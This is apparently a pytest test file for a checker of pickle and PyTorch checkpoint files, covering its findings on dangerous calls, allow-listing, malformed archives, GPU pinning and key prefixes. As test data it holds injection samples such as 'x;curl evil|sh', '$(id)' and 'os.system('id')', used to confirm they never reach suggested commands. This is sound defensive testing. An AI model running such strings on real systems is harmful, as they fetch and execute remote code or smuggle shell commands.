"""The probes of files on hand-made facts: what each says, with which severity, and what it suggests to type."""

from __future__ import annotations

import ast
from typing import Any

import pytest

from distcheck import rules
from distcheck.checks.pickles import file_probes
from distcheck.checks.pickles.file_probes import JudgedFile
from distcheck.checks.pickles.picklefile import Anomaly, PickleFile, Stream
from distcheck.checks.pickles.trace import Global, Keys, Naming, Storages, StreamCall, Trace, Unresolved
from distcheck.checks.pickles.verdict import Danger, FileVerdict, Policy, WeightsOnly
from distcheck.core.checker import Checker
from distcheck.core.model import Finding, Severity

ACCEPT = WeightsOnly("accept")
NEVER = WeightsOnly("never", why="it fills a collections.defaultdict", fix="convert hist to a plain dict before saving")


def trace(**changes: Any) -> Trace:
    plain: dict[str, Any] = {
        "start": 0,
        "end": 10,
        "protocol": 2,
        "ended": "stop",
        "problem": None,
        "opcodes": {},
        "globals": (),
        "calls": (),
        "writes": (),
        "unresolved": (),
        "storages": (),
        "storage_keys": frozenset(),
        "foreign_ids": (),
        "keys": Keys({}, {}, 0),
        "result": "dict",
    }
    return Trace(**{**plain, **changes})


def torch_zip(path: str = "model.pt", *, of: Trace | None = None, **changes: Any) -> PickleFile:
    streams = (Stream("archive/data.pkl", "torch", of or trace()),)
    return PickleFile(path, "torch zip", 1000, streams)._replace(**changes)


def verdict(word: str = "safe", answer: WeightsOnly | None = ACCEPT, **changes: Any) -> FileVerdict:
    return FileVerdict(word, answer, torch_version="2.13")._replace(**changes)


def found(file: PickleFile, judged: FileVerdict, policy: Policy = Policy()) -> dict[str, list[Finding]]:
    """The findings by code, through the checker, as the command has them."""
    plan = Checker(modules=("distcheck.checks.pickles.file_probes",), plug_ins=False).plan(
        JudgedFile, command="pickle", closed=True
    )
    report = plan.run(JudgedFile(file, judged, policy))
    assert not [run for run in report.probes if run.status == "failed"], report.probes
    by_code: dict[str, list[Finding]] = {}
    for finding in report.findings:
        by_code.setdefault(finding.code, []).append(finding)
    return by_code


def test_good_a_plain_checkpoint_is_silent() -> None:
    file = torch_zip(of=trace(storages=(Storages("cpu", 12, 4),), keys=Keys({"module.": 0}, {}, 12)))
    assert found(file, verdict()) == {}


def test_bad_dc610_names_the_call_the_place_and_nothing_to_type() -> None:
    danger = Danger("archive/data.pkl", 45, "os.system('id')", "it runs a shell command", Global("os", "system"))
    (finding,) = found(torch_zip(), verdict("dangerous", NEVER, dangers=(danger,)))["DC610"]
    assert finding.severity is Severity.ERROR
    assert finding.message == "loading it calls os.system('id'): it runs a shell command"
    assert (finding.where.path, finding.where.object, finding.where.offset) == ("model.pt", "archive/data.pkl", 45)
    assert finding.evidence["global"] == "os.system"
    assert "do not load this file" in finding.fix.text
    assert finding.fix.command is None


def test_bad_dc610_a_place_that_calls_what_nobody_can_know() -> None:
    danger = Danger(None, 7, "", "it computes the name of what it calls")
    (finding,) = found(torch_zip(), verdict("dangerous", NEVER, dangers=(danger,)))["DC610"]
    assert finding.message == "it computes the name of what it calls"


def test_a_million_dangers_are_twenty_findings_that_say_how_many_there_are() -> None:
    dangers = tuple(Danger(None, number, "os.system('x')", "it runs a command") for number in range(1000))
    findings = found(torch_zip(), verdict("dangerous", NEVER, dangers=dangers))["DC610"]
    assert len(findings) == 20
    assert any("and 980 more calls" in finding.message for finding in findings)


def test_a_dangerous_file_gets_no_advice_that_helps_to_load_it() -> None:
    of = trace(
        storages=(Storages("cuda:3", 4, 9),),
        keys=Keys({"module.": 4}, {"module.": "module.weight"}, 4),
        globals=(Naming(Global("torch._C._distributed_c10d", "ProcessGroup"), "GLOBAL", 3),),
    )
    judged = verdict(
        "dangerous",
        WeightsOnly("allowlist", allowlist=("Evil",), imports=("from evil import Evil",)),
        dangers=(Danger(None, 1, "evil.Evil()", "it is unknown"),),
        untrusted=(Global("evil", "Evil"),),
        modules_saved=(StreamCall(Global("evil", "Net"), "NEWOBJ", 3, "evil.Net()"),),
        distributed=(Global("torch._C._distributed_c10d", "ProcessGroup"),),
    )
    assert set(found(torch_zip(of=of), judged)) == {"DC610"}


def test_bad_dc611_harmless_names_are_a_warning_with_lines_to_paste() -> None:
    answer = WeightsOnly(
        "allowlist",
        allowlist=("Namespace", "numpy.dtype"),
        imports=("from argparse import Namespace", "import numpy"),
        offset=9,
    )
    judged = verdict("needs-allow-listing", answer, benign=(Global("argparse", "Namespace"), Global("numpy", "dtype")))
    (finding,) = found(torch_zip(), judged)["DC611"]
    assert finding.severity is Severity.WARNING
    assert "argparse.Namespace, numpy.dtype" in finding.message
    assert finding.fix.command == (
        "from argparse import Namespace\nimport numpy\ntorch.serialization.add_safe_globals([Namespace, numpy.dtype])"
    )
    ast.parse(finding.fix.command)
    assert finding.fix.where == "code"


def test_bad_dc611_code_that_nobody_vouches_for_is_an_error() -> None:
    answer = WeightsOnly("allowlist", allowlist=("Net",), imports=("from their.net import Net",))
    judged = verdict("needs-allow-listing", answer, untrusted=(Global("their.net", "Net"),))
    (finding,) = found(torch_zip(), judged)["DC611"]
    assert finding.severity is Severity.ERROR
    assert "their.net.Net" in finding.message
    assert "read the code" in finding.fix.text
    assert "from their.net import Net" in (finding.fix.command or "")


def test_dc611_many_names_are_cut_in_the_message_and_not_in_the_evidence() -> None:
    names = tuple(Global("their.net", f"Block{number}") for number in range(30))
    answer = WeightsOnly("allowlist", allowlist=tuple(name.name for name in names))
    (finding,) = found(torch_zip(), verdict("needs-allow-listing", answer, untrusted=names))["DC611"]
    assert "and 25 more" in finding.message
    assert len(finding.evidence["unvouched"]) == 30


def test_bad_dc611_an_import_is_all_that_is_needed() -> None:
    answer = WeightsOnly("import", modules=("torch.distributed.tensor",))
    (finding,) = found(torch_zip(), verdict("needs-allow-listing", answer))["DC611"]
    assert finding.severity is Severity.WARNING
    assert finding.fix.command == "import torch.distributed.tensor"


@pytest.mark.parametrize(
    ("untrusted", "severity"), [((), Severity.WARNING), ((Global("their", "Net"),), Severity.ERROR)]
)
def test_bad_dc611_what_no_list_can_fix(untrusted: tuple[Global, ...], severity: Severity) -> None:
    (finding,) = found(torch_zip(), verdict("needs-allow-listing", NEVER, untrusted=untrusted))["DC611"]
    assert finding.severity is severity
    assert "it fills a collections.defaultdict" in finding.message
    assert "convert hist to a plain dict before saving" in finding.fix.text
    assert finding.fix.command is None


def test_good_dc611_what_a_budget_ended_is_not_judged() -> None:
    assert "DC611" not in found(torch_zip(), verdict("incomplete", WeightsOnly("unknown")))


def test_dc611_under_pickle_only_unknown_code_counts() -> None:
    file = PickleFile("data.pkl", "pickle", 10, (Stream(None, "pickle", trace()),))
    plain = verdict("safe", NEVER, benign=(Global("datetime", "date"),))
    assert found(file, plain) == {}
    unknown = verdict("needs-allow-listing", NEVER, untrusted=(Global("their.net", "Net"),))
    (finding,) = found(file, unknown)["DC611"]
    assert finding.severity is Severity.ERROR
    assert "their.net.Net" in finding.message
    assert "--allow their.net.Net" in finding.fix.text
    # the purpose that the caller states counts for every format
    (stated,) = found(torch_zip(), unknown, Policy(purpose="pickle"))["DC611"]
    assert "runs code" in stated.message


def test_bad_dc611_what_torch_does_not_guard_counts_although_torch_takes_the_rest() -> None:
    judged = verdict("needs-allow-listing", ACCEPT, untrusted=(Global("their.net", "Net"),))
    (finding,) = found(torch_zip(), judged)["DC611"]
    assert finding.severity is Severity.ERROR
    assert "their.net.Net" in finding.message


@pytest.mark.parametrize("name", ["x;curl evil|sh", "$(id)", "a b", "`id`", "-rf"])
def test_what_a_file_calls_its_names_never_becomes_a_line_for_the_shell(name: str) -> None:
    file = PickleFile("data.pkl", "pickle", 10, (Stream(None, "pickle", trace()),))
    judged = verdict("needs-allow-listing", NEVER, untrusted=(Global("their", name),))
    (finding,) = found(file, judged)["DC611"]
    assert name not in finding.fix.text
    answer = WeightsOnly("allowlist", allowlist=(f"their.{name}",), imports=("import their",))
    (line,) = found(torch_zip(), verdict("needs-allow-listing", answer, untrusted=judged.untrusted))["DC611"]
    assert line.fix.command is None or name not in line.fix.command


@pytest.mark.parametrize(
    ("kind", "severity"),
    [("disagree", Severity.ERROR), ("malformed", Severity.ERROR), ("note", Severity.INFO)],
)
def test_bad_dc612_oddities_of_the_container(kind: str, severity: Severity) -> None:
    anomaly = Anomaly("data.pkl is in it twice", kind, 512, "archive/data.pkl")
    word = "malformed" if severity is Severity.ERROR else "safe"
    (finding,) = found(torch_zip(anomalies=(anomaly,)), verdict(word))["DC612"]
    assert finding.severity is severity
    assert finding.message == "data.pkl is in it twice"
    assert (finding.where.object, finding.where.offset) == ("archive/data.pkl", 512)


def test_good_dc612_what_torch_refuses_is_not_malformed() -> None:
    file = torch_zip(anomalies=(Anomaly("it is a TorchScript archive", "refused"),))
    answer = WeightsOnly("never", why="it is a TorchScript archive", fix="torch.jit.load reads it")
    assert set(found(file, verdict("needs-allow-listing", answer))) == {"DC611"}


def test_bad_dc612_a_pointer_of_git_lfs_is_pulled() -> None:
    anomaly = Anomaly("it is a pointer of git LFS, and not the file", "malformed", fix="git lfs pull")
    file = PickleFile("model.pt", "git LFS pointer", 130, anomalies=(anomaly,))
    (finding,) = found(file, verdict("malformed", None))["DC612"]
    assert finding.fix.command == "git lfs pull"
    assert finding.fix.where == "this-shell"


def test_bad_dc612_a_stream_that_ends_in_the_middle() -> None:
    judged = verdict("malformed", WeightsOnly("never"), malformed=(Unresolved(77, "the bytes end before STOP"),))
    by_code = found(torch_zip(), judged)
    (finding,) = by_code["DC612"]
    assert finding.where.offset == 77
    assert "compare its size" in finding.fix.text
    # that weights_only refuses it as well is the same trouble
    assert "DC611" not in by_code


def test_bad_dc612_tensors_that_are_not_in_the_file() -> None:
    file = torch_zip(storages_absent=tuple(f"data/{number}" for number in range(9)))
    (finding,) = found(file, verdict("malformed"))["DC612"]
    assert "9 tensor storages that it requests are not in it: data/0" in finding.message
    assert "and 4 more" in finding.message


def test_dc612_says_the_same_thing_once() -> None:
    anomaly = Anomaly("the bytes end before STOP", "malformed", 77)
    judged = verdict("malformed", malformed=(Unresolved(77, "the bytes end before STOP"),))
    assert len(found(torch_zip(anomalies=(anomaly,)), judged)["DC612"]) == 1


def pinned(*tags: tuple[str, int]) -> PickleFile:
    return torch_zip(of=trace(storages=tuple(Storages(tag, count, 5) for tag, count in tags)))


def test_bad_dc613_one_device() -> None:
    (finding,) = found(pinned(("cuda:0", 120), ("cpu", 2)), verdict())["DC613"]
    assert finding.severity is Severity.WARNING
    assert finding.message.startswith("120 tensor storages will be put where they were saved (120 on cuda:0)")
    assert "every rank that loads it fills cuda:0" in finding.message
    assert finding.fix.command == 'torch.load("model.pt", map_location="cpu")'
    assert finding.evidence["locations"] == {"cuda:0": 120, "cpu": 2}


@pytest.mark.parametrize(
    ("gpus", "words"), [(1, "machine with 1 GPU"), (4, "machine with 4 GPUs"), (0, "machine with no GPU")]
)
def test_bad_dc613_a_machine_with_fewer_gpus(gpus: int, words: str) -> None:
    (finding,) = found(pinned(("cuda:7", 1)), verdict(), Policy(gpus=gpus))["DC613"]
    assert words in finding.message
    assert "torch.load raises" in finding.message


def test_bad_dc613_a_machine_with_enough_gpus_is_filled_on_one() -> None:
    (finding,) = found(pinned(("cuda:3", 1)), verdict(), Policy(gpus=8))["DC613"]
    assert "every rank that loads it fills cuda:3" in finding.message


def test_bad_dc613_many_devices_and_other_kinds() -> None:
    (finding,) = found(pinned(*((f"cuda:{number}", 2) for number in range(8))), verdict())["DC613"]
    assert "more on 3 other devices" in finding.message
    (other,) = found(pinned(("mps", 2)), verdict())["DC613"]
    assert "without mps" in other.message


def test_good_dc613_the_cpu_and_the_meta_device_are_everywhere() -> None:
    assert found(pinned(("cpu", 100), ("meta", 2)), verdict()) == {}


@pytest.mark.parametrize(
    ("prefix", "wrapper", "command"),
    [
        ("module.", "DistributedDataParallel", "consume_prefix_in_state_dict_if_present"),
        ("_orig_mod.", "torch.compile", 'removeprefix("_orig_mod.")'),
        ("_fsdp_wrapped_module.", "FullyShardedDataParallel", 'replace("_fsdp_wrapped_module.", "")'),
    ],
)
def test_bad_dc614_prefixes_of_wrappers(prefix: str, wrapper: str, command: str) -> None:
    file = torch_zip(of=trace(keys=Keys({prefix: 10}, {prefix: f"{prefix}layer.weight"}, 12)))
    (finding,) = found(file, verdict())["DC614"]
    assert finding.severity is Severity.INFO
    assert f"10 of 12 keys begin with {prefix} ({prefix}layer.weight)" in finding.message
    assert wrapper in finding.message
    assert command in (finding.fix.command or "")
    ast.parse(finding.fix.command or "")


def test_good_dc614_no_prefix() -> None:
    assert found(torch_zip(of=trace(keys=Keys({}, {}, 12))), verdict()) == {}


def test_bad_dc615_a_whole_module() -> None:
    call = StreamCall(Global("torchvision.models.resnet", "ResNet"), "NEWOBJ", 30, "torchvision.models.resnet.ResNet()")
    judged = verdict(modules_saved=(call,))
    (finding,) = found(torch_zip(of=trace(calls=(call,))), judged)["DC615"]
    assert finding.severity is Severity.WARNING
    assert "torchvision.models.resnet.ResNet" in finding.message
    assert (finding.where.object, finding.where.offset) == ("archive/data.pkl", 30)
    ast.parse(finding.fix.command or "")


def test_bad_dc615_a_saved_wrapper_needs_a_process_group() -> None:
    module, _, name = file_probes._DDP.rpartition(".")
    call = StreamCall(Global(module, name), "NEWOBJ", 30, "")
    (finding,) = found(torch_zip(of=trace(calls=(call,))), verdict(modules_saved=(call,)))["DC615"]
    assert "where no process group was made" in finding.message


def test_good_dc615_a_state_dict() -> None:
    assert "DC615" not in found(torch_zip(), verdict())


def test_bad_dc602_a_process_group() -> None:
    what = Global("torch._C._distributed_c10d", "ProcessGroupNCCL")
    file = torch_zip(of=trace(globals=(Naming(what, "GLOBAL", 12),)))
    (finding,) = found(file, verdict("needs-allow-listing", ACCEPT, distributed=(what,)))["DC602"]
    assert finding.severity is Severity.ERROR
    assert "ProcessGroupNCCL" in finding.message
    assert finding.where.offset == 12


def test_good_dc602_distributed_tensors_are_no_connections() -> None:
    judged = verdict(
        distributed=(
            Global("torch.distributed.tensor", "DTensor"),
            Global("torch.distributed.device_mesh", "DeviceMesh"),
        )
    )
    assert "DC602" not in found(torch_zip(), judged)


def test_a_path_with_quotes_stays_a_literal() -> None:
    file = pinned(("cuda:0", 1))._replace(path='a"b\\\x1b.pt')
    (finding,) = found(file, verdict())["DC613"]
    ast.parse(finding.fix.command or "")
    assert "\x1b" not in (finding.fix.command or "")


def test_each_probe_is_about_a_rule_that_pickle_can_see() -> None:
    from distcheck.core import registry

    seen = {
        rule.code
        for probe in registry.probes()
        if probe.function.__module__ == "distcheck.checks.pickles.file_probes"
        for rule in probe.rules
    }
    assert seen == {"DC602", "DC610", "DC611", "DC612", "DC613", "DC614", "DC615"}
    assert all("pickle" in rules.find(code).ways for code in seen)
